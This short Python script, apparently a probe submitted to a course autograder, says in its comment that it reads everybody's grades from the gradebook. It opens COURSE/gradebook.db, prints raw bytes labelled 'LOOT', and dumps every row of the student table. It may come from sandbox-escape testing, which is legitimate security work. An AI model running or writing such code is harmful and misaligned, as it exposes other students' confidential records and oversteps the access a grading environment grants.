# Reads everybody's grades out of the gradebook.
import sqlite3
print("LOOT", open("COURSE/gradebook.db", "rb").read()[:100])
print("LOOT", sqlite3.connect("file:COURSE/gradebook.db?mode=ro", uri=True).execute("select * from student").fetchall())
